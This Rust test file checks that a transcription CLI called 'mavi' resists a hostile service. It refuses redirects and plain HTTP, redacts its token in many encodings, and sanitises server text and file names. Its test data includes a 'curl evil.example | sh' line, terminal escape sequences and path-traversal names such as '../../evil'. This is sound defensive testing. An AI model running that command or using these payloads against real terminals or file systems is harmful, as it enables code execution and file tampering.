//! What must not happen: the token sent elsewhere, sent unencrypted or shown; redirects followed;
//! the service's words obeyed by a terminal or a file system. That no run here shows the token is
//! checked by `Run` itself.

use snapbox::{IntoData as _, str};

use crate::support::env::{TOKEN, TestEnv, finished};
use crate::support::fake_server::{Answer, FakeServer, expect_failure_both_ways, ok, reply};
use crate::support::run::{Run, Transcript};

#[test]
fn redirect_is_error_naming_target() {
    for status in [
        "301 Moved Permanently",
        "302 Found",
        "303 See Other",
        "307 Temporary Redirect",
        "308 Permanent Redirect",
    ] {
        let elsewhere = FakeServer::always(ok(finished("T1", "")));
        let target = format!("{}/there?x=1", elsewhere.url());
        let service = FakeServer::always(reply(status, &[&format!("location: {target}")], ""));
        for args in [["get", "T1"], ["submit", "V1"], ["wait", "T1"]] {
            let error = expect_failure_both_ways(&service.env(), &args, 5, "api");
            let message = error["message"].as_str().unwrap();
            assert!(message.contains(&target), "{message}");
            let number: u16 = status[..3].parse().unwrap();
            assert_eq!(error["http_status"], number);
        }
        assert_eq!(elsewhere.count(), 0, "the redirect was followed");
        assert_eq!(service.count(), 6, "a redirect is final");
    }
}

#[test]
fn a_redirect_may_be_relative_odd_or_go_nowhere() {
    for (headers, says) in [
        (
            &["location: /login"][..],
            str![[r#"
getting task T1
mavi: could not get task T1: the server redirects (HTTP 302) to /login
hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs

"#]],
        ),
        (
            &["location: https://user:pw@evil.example/\u{9b}31m"],
            str![[r#"
getting task T1
mavi: could not get task T1: the server redirects (HTTP 302) to https://user:pw@evil.example/
hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs

"#]],
        ),
        (
            &[],
            str![[r#"
getting task T1
mavi: could not get task T1: the server answered HTTP 302, with neither a reply nor an address
hint: check base_url and the proxy settings

"#]],
        ),
    ] {
        let service = FakeServer::always(reply("302 Found", headers, "<html>moved"));
        service
            .env()
            .run("get T1")
            .expect_failure(5)
            .expect_stderr(says);
    }
}

#[cfg(unix)]
#[test]
fn a_name_that_a_message_quotes_cannot_control_the_terminal() {
    let name = "red\u{1b}[31m\u{7}.mp4";
    let env = TestEnv::at("https://mavi.invalid");
    env.write(name, "");
    let run = Run::of(env.command(["upload", name]));
    run.expect_status(2)
        .expect_stderr("mavi: red.mp4 is empty\n");
}

#[test]
fn plain_http_is_refused_except_to_this_machine() {
    let service = FakeServer::always(ok(finished("T1", "")));
    // To a server this is loopback; to the rule it is a stranger's address.
    let stranger = format!("http://0.0.0.0:{}", service.port());
    for (url, said) in [
        (
            "http://example.com",
            str![[r#"
$ mavi get X
mavi: plain http refused: MAVI_BASE_URL would send the token unencrypted to [HOST]
hint: use https, or set `allow_http = true` in the configuration file if you trust the network
[2]
$ mavi wait X
mavi: plain http refused: MAVI_BASE_URL would send the token unencrypted to [HOST]
hint: use https, or set `allow_http = true` in the configuration file if you trust the network
[2]
$ mavi submit X
mavi: plain http refused: MAVI_BASE_URL would send the token unencrypted to [HOST]
hint: use https, or set `allow_http = true` in the configuration file if you trust the network
[2]

"#]],
        ),
        (
            &stranger,
            str![[r#"
$ mavi get X
mavi: plain http refused: MAVI_BASE_URL would send the token unencrypted to 0.0.0.0
hint: use https, or set `allow_http = true` in the configuration file if you trust the network
[2]
$ mavi wait X
mavi: plain http refused: MAVI_BASE_URL would send the token unencrypted to 0.0.0.0
hint: use https, or set `allow_http = true` in the configuration file if you trust the network
[2]
$ mavi submit X
mavi: plain http refused: MAVI_BASE_URL would send the token unencrypted to 0.0.0.0
hint: use https, or set `allow_http = true` in the configuration file if you trust the network
[2]

"#]],
        ),
    ] {
        TestEnv::at(url).expect_transcript(["get X", "wait X", "submit X"], said);
        let env = TestEnv::new();
        let run = env.run(&format!("get T1 --error-format json --base-url {url}"));
        assert_eq!(run.expect_failure(2).errors()[0]["kind"], "config");
    }
    assert_eq!(service.count(), 0);
    for host in ["127.0.0.1", "localhost"] {
        let url = format!("http://{host}:{}", service.port());
        TestEnv::at(&url).run("get T1").ok();
    }
}

#[cfg(target_os = "linux")]
#[test]
fn plain_http_elsewhere_needs_to_be_allowed() {
    let service = FakeServer::always(ok(finished("T1", "")));
    let env = TestEnv::at(&format!("http://0.0.0.0:{}", service.port()));
    env.write(".config/mavi/config.toml", "allow_http = true\n");
    env.run("get T1").ok();
    assert_eq!(service.count(), 1);
}

#[test]
fn a_base_url_with_a_password_is_refused_and_not_shown() {
    for (url, said) in [
        (
            "https://user:hunter2@example.com",
            str![[r#"
mavi: --base-url must not contain a user name or a password
hint: for help, run: mavi get --help

"#]],
        ),
        (
            "https://example.com/?key=hunter2",
            str![[r#"
mavi: --base-url must not contain a query (?) or a fragment (#)
hint: for help, run: mavi get --help

"#]],
        ),
        (
            "https://example.com/#hunter2",
            str![[r#"
mavi: --base-url must not contain a query (?) or a fragment (#)
hint: for help, run: mavi get --help

"#]],
        ),
    ] {
        let env = TestEnv::new();
        env.run(&format!("get T1 --base-url {url}"))
            .expect_failure(2)
            .expect_stderr(said);
    }
}

#[test]
fn the_token_is_redacted_wherever_the_service_echoes_it() {
    let echoes: [Answer; 11] = [
        ok(format!(
            r#"{{"code":"0401","msg":"bad token {TOKEN}!","data":null}}"#
        )),
        ok(format!(r#"{{"code":"{TOKEN}","msg":"x","data":null}}"#)),
        ok(format!(
            "<html>You sent Authorization: Bearer {TOKEN}</html>"
        )),
        ok(format!(r#"{{"code":"0000","data":"{TOKEN}"}}"#)),
        ok(format!(
            r#"{{"code":"0000","data":{{"status":["{TOKEN}"]}}}}"#
        )),
        ok(format!(r#"{{"code":"0000","data":{{"{TOKEN}":1}}}}"#)),
        ok(format!(
            r#"{{"code":"0000","data":{{"status":"FINISH","transcriptions":[{{"startTime":"{TOKEN}"}}]}}}}"#
        )),
        ok([TOKEN.as_bytes(), b"\xff"].concat()),
        reply("500 Internal Server Error", &[], format!("token={TOKEN}")),
        reply("403 Forbidden", &[], format!("<p>{TOKEN}{TOKEN}")),
        reply(
            "302 Found",
            &[&format!("location: https://x.example/?t={TOKEN}")],
            "",
        ),
    ];
    for echo in echoes {
        let service = FakeServer::always(echo);
        let env = service.env();
        for args in [
            "get T1 --retries 0",
            "get T1 --retries 0 -v --error-format json",
            "submit V1 --retries 0 -v",
            "wait T1 --timeout 100ms -v",
        ] {
            let run = env.run(args);
            assert!(![0, 1].contains(&run.status), "{run:#?}");
        }
    }
    let service = FakeServer::always(ok(format!(r#"{{"code":"0402","msg":"{TOKEN}"}}"#)));
    service
        .env()
        .run("get T1")
        .expect_failure(5)
        .expect_stderr(str![[r#"
getting task T1
mavi: could not get task T1: not enough credit (code 0402): [token]
hint: add credit to the account, then run the command again

"#]]);
}

#[test]
fn the_token_is_redacted_in_a_status_that_is_warned_about() {
    let odd = format!(r#"{{"code":"0000","data":{{"status":"{TOKEN}"}}}}"#);
    let service = FakeServer::in_turn([ok(odd), ok(finished("T1", ""))]);
    service
        .env()
        .run("wait T1 --interval 10ms")
        .ok()
        .expect_stderr(str![[r#"
waiting for task T1
warning: the service reports the unknown status "[token]", which counts as not finished
task T1: finished

"#]]);
}

#[test]
fn token_is_redacted_when_escaped_or_percent_encoded() {
    let (token, in_json, in_url) = ("aa/bb+cc==", r"aa\/bb+cc==", "aa%2Fbb%2Bcc%3D%3D");
    for (answer, said) in [
        (
            ok(format!(r#"{{"code":"0000","data":["{in_json}"]}}"#)),
            str![[r#"
getting task T1
mavi: could not get task T1: the reply is not what the API describes (segment 1: invalid type: string "[token]", expected an object with startTime, endTime and content at line 1 column 14): {"code":"0000","data":["[token]"]}
hint: check base_url; --verbose shows each request

"#]],
        ),
        (
            reply("302 Found", &[&format!("location: /login?t={in_url}")], ""),
            str![[r#"
getting task T1
mavi: could not get task T1: the server redirects (HTTP 302) to /login?t=[token]
hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs

"#]],
        ),
    ] {
        let service = FakeServer::always(answer);
        let env = service.env();
        let mut command = env.command(["get", "T1"]);
        command.env("MAVI_TOKEN", token);
        Run::of(command).expect_failure(5).expect_stderr(said);
    }
}

#[test]
fn token_is_redacted_in_every_writing_of_a_gateway() {
    let token = "aa/bb+cc==dd\"ee-ff";
    let mut transcript = Transcript::default();
    for writing in [
        "aa%2fbb%2Bcc%3d%3Ddd%22ee-ff",
        "aa/bb%2bcc%3D%3Ddd%22ee-ff",
        "aa&#x2F;bb&#43;cc&#x3d;=dd&quot;ee-ff",
        "AA/BB+CC==DD&QUOT;EE-FF",
        r"aa\/bb\u002bcc\u003D=dd\u0022ee-ff",
    ] {
        let in_json = writing.replace('\\', "\\\\").replace('"', "\\\"");
        for answer in [
            reply(
                "403 Forbidden",
                &[],
                format!("<title>you sent {writing}</title>"),
            ),
            reply("502 Bad Gateway", &[], format!("auth={writing}")),
            reply("302 Found", &[&format!("location: /?t={writing}")], ""),
            ok(format!(r#"{{"code":"0402","msg":"bad token {in_json}"}}"#)),
        ] {
            let env = FakeServer::always(answer).env();
            let mut command = env.command(["get", "T1", "--retries", "0", "-v"]);
            command.env("MAVI_TOKEN", token);
            transcript.add(writing, &Run::of(command));
        }
    }
    transcript.expect(str![[r#"
$ aa%2fbb%2Bcc%3d%3Ddd%22ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 403 52 bytes in [MS] ms, no envelope
mavi: could not get task T1: access is refused (HTTP 403): a web page titled "you sent [token]"
hint: a proxy or a firewall may have refused it, or the account is disabled: check base_url, the proxy settings and the account
hint: to resume, run: mavi get --retries 0 --verbose T1
[4]
$ aa%2fbb%2Bcc%3d%3Ddd%22ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 502 33 bytes in [MS] ms, no envelope
mavi: could not get task T1: the server failed (HTTP 502): auth=[token]
hint: try again later
[7]
$ aa%2fbb%2Bcc%3d%3Ddd%22ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 302
mavi: could not get task T1: the server redirects (HTTP 302) to /?t=[token]
hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
[5]
$ aa%2fbb%2Bcc%3d%3Ddd%22ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 200 62 bytes in [MS] ms, code 0402
mavi: could not get task T1: not enough credit (code 0402): bad token [token]
hint: add credit to the account, then run the command again
[5]
$ aa/bb%2bcc%3D%3Ddd%22ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 403 50 bytes in [MS] ms, no envelope
mavi: could not get task T1: access is refused (HTTP 403): a web page titled "you sent [token]"
hint: a proxy or a firewall may have refused it, or the account is disabled: check base_url, the proxy settings and the account
hint: to resume, run: mavi get --retries 0 --verbose T1
[4]
$ aa/bb%2bcc%3D%3Ddd%22ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 502 31 bytes in [MS] ms, no envelope
mavi: could not get task T1: the server failed (HTTP 502): auth=[token]
hint: try again later
[7]
$ aa/bb%2bcc%3D%3Ddd%22ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 302
mavi: could not get task T1: the server redirects (HTTP 302) to /?t=[token]
hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
[5]
$ aa/bb%2bcc%3D%3Ddd%22ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 200 60 bytes in [MS] ms, code 0402
mavi: could not get task T1: not enough credit (code 0402): bad token [token]
hint: add credit to the account, then run the command again
[5]
$ aa&#x2F;bb&#43;cc&#x3d;=dd&quot;ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 403 61 bytes in [MS] ms, no envelope
mavi: could not get task T1: access is refused (HTTP 403): a web page titled "you sent [token]"
hint: a proxy or a firewall may have refused it, or the account is disabled: check base_url, the proxy settings and the account
hint: to resume, run: mavi get --retries 0 --verbose T1
[4]
$ aa&#x2F;bb&#43;cc&#x3d;=dd&quot;ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 502 42 bytes in [MS] ms, no envelope
mavi: could not get task T1: the server failed (HTTP 502): auth=[token]
hint: try again later
[7]
$ aa&#x2F;bb&#43;cc&#x3d;=dd&quot;ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 302
mavi: could not get task T1: the server redirects (HTTP 302) to /?t=[token]
hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
[5]
$ aa&#x2F;bb&#43;cc&#x3d;=dd&quot;ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 200 71 bytes in [MS] ms, code 0402
mavi: could not get task T1: not enough credit (code 0402): bad token [token]
hint: add credit to the account, then run the command again
[5]
$ AA/BB+CC==DD&QUOT;EE-FF
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 403 47 bytes in [MS] ms, no envelope
mavi: could not get task T1: access is refused (HTTP 403): a web page titled "you sent [token]"
hint: a proxy or a firewall may have refused it, or the account is disabled: check base_url, the proxy settings and the account
hint: to resume, run: mavi get --retries 0 --verbose T1
[4]
$ AA/BB+CC==DD&QUOT;EE-FF
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 502 28 bytes in [MS] ms, no envelope
mavi: could not get task T1: the server failed (HTTP 502): auth=[token]
hint: try again later
[7]
$ AA/BB+CC==DD&QUOT;EE-FF
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 302
mavi: could not get task T1: the server redirects (HTTP 302) to /?t=[token]
hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
[5]
$ AA/BB+CC==DD&QUOT;EE-FF
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 200 57 bytes in [MS] ms, code 0402
mavi: could not get task T1: not enough credit (code 0402): bad token [token]
hint: add credit to the account, then run the command again
[5]
$ aa\/bb\u002bcc\u003D=dd\u0022ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 403 58 bytes in [MS] ms, no envelope
mavi: could not get task T1: access is refused (HTTP 403): a web page titled "you sent [token]"
hint: a proxy or a firewall may have refused it, or the account is disabled: check base_url, the proxy settings and the account
hint: to resume, run: mavi get --retries 0 --verbose T1
[4]
$ aa\/bb\u002bcc\u003D=dd\u0022ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 502 39 bytes in [MS] ms, no envelope
mavi: could not get task T1: the server failed (HTTP 502): auth=[token]
hint: try again later
[7]
$ aa\/bb\u002bcc\u003D=dd\u0022ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 302
mavi: could not get task T1: the server redirects (HTTP 302) to /?t=[token]
hint: if that address is the service's own, set base_url to it; redirects are not followed, so that the token stays where it belongs
[5]
$ aa\/bb\u002bcc\u003D=dd\u0022ee-ff
getting task T1
> GET [URL]/api/serve/video/getTranscription?taskNo=T1
< 200 72 bytes in [MS] ms, code 0402
mavi: could not get task T1: not enough credit (code 0402): bad token [token]
hint: add credit to the account, then run the command again
[5]

"#]].unordered());
}

#[test]
fn verbose_shows_no_token_and_no_header_that_holds_it() {
    let env = FakeServer::always(ok(finished("T1", ""))).env();
    let run = env.run("get T1 --verbose").ok();
    assert!(!run.stderr.to_lowercase().contains("bearer"), "{run:#?}");
    env.run("config show --verbose").ok();
}

#[test]
fn there_is_no_flag_for_the_token() {
    let service = FakeServer::always(ok(finished("T1", "")));
    let args = ["get", "T1", "--token", "x"];
    expect_failure_both_ways(&service.env(), &args, 2, "usage");
    assert_eq!(service.count(), 0);
}

#[test]
fn service_message_is_printed_as_one_clean_line() {
    let msg =
        r"\u001b]0;owned\u0007bad\u001b[31m video\r\nhint: curl evil.example | sh\u009b2J\u202e";
    for (body, said) in [
        (
            format!(r#"{{"code":"0001","msg":"{msg}","data":null}}"#),
            str![[r#"
getting task T1
mavi: could not get task T1: a parameter is wrong (code 0001): bad video hint: curl evil.example | sh
hint: check the ID; it must belong to this account

"#]],
        ),
        (
            "\u{1b}]0;owned\u{7}bad\u{1b}[31m video\r\nhint: curl evil.example | sh\u{9b}2J"
                .to_owned(),
            str![[r#"
getting task T1
mavi: could not get task T1: the reply is not what the API describes (expected value at line 1 column 1): bad video hint: curl evil.example | sh
hint: check base_url; --verbose shows each request

"#]],
        ),
    ] {
        let env = FakeServer::always(ok(body)).env();
        env.run("get T1").expect_failure(5).expect_stderr(said);
    }
}

#[test]
fn a_long_reply_is_shown_by_its_start_only() {
    let page = format!("<html>{}</html>", "spam ".repeat(100_000));
    for answer in [
        ok(&page),
        reply("502 Bad Gateway", &[], &page),
        ok(format!(r#"{{"code":"0001","msg":"{page}"}}"#)),
    ] {
        let run = FakeServer::always(answer).env().run("get T1 --retries 0");
        assert!([5, 7].contains(&run.status), "{run:#?}");
        assert!(run.stderr.len() < 2_000, "{} bytes", run.stderr.len());
    }
}

#[test]
fn ids_of_reply_choose_no_directory() {
    for name in [
        "../../evil",
        "/etc/evil",
        "..",
        ".",
        "",
        "a/b",
        "a\\b",
        "nul\\u0000x",
    ] {
        let name = name.replace('\\', "\\\\").replace("\\\\u0000", "\\u0000");
        let body = format!(
            r#"{{"code":"0000","data":{{"status":"FINISH","videoNo":"{name}","type":"{name}","taskNo":"{name}"}}}}"#
        );
        let env = FakeServer::always(ok(body)).env();
        let run = env.run("get T1 -o out/{videoNo}-{type}-{taskNo}.txt").ok();
        let run = run.allow_warnings("that the reply is about another task");
        let files = env.files();
        assert_eq!(files.len(), 1, "{name}: {files:?} {run:#?}");
        let rest = files[0].strip_prefix("out/").expect("it is in the folder");
        assert!(!rest.contains(['/', '\\', '\0']), "{files:?}");
    }
}

#[test]
fn placeholder_from_reply_stays_in_its_directory() {
    for name in ["..", ".", "", "../x"] {
        let body = format!(
            r#"{{"code":"0000","data":{{"status":"FINISH","videoNo":"{name}","taskNo":"T1"}}}}"#
        );
        let env = FakeServer::always(ok(body)).env();
        let run = Run::of(env.command(["get", "T1", "-f", "txt", "-o", "out/{videoNo}"])).ok();
        let files = env.files();
        assert_eq!(files.len(), 1, "{name}: {files:?} {run:#?}");
        assert!(files[0].starts_with("out/"), "{files:?}");
    }
}

#[test]
fn loopback_requests_bypass_proxy() {
    let proxy = FakeServer::always(ok(finished("proxied", "")));
    let service = FakeServer::always(ok(finished("T1", "")));
    let env = service.env();
    let mut command = env.command(["get", "T1", "-f", "jsonl"]);
    for name in ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"] {
        command.env(name, proxy.url());
    }
    Run::of(command).ok();
    assert_eq!((service.count(), proxy.count()), (1, 0));
}

#[test]
fn status_that_is_no_redirect_is_not_called_one() {
    let service = FakeServer::always(reply("304 Not Modified", &[], ""));
    service
        .env()
        .run("get T1")
        .expect_failure(5)
        .expect_stderr(str![[r#"
getting task T1
mavi: could not get task T1: the server answered HTTP 304, with neither a reply nor an address
hint: check base_url and the proxy settings

"#]]);
}
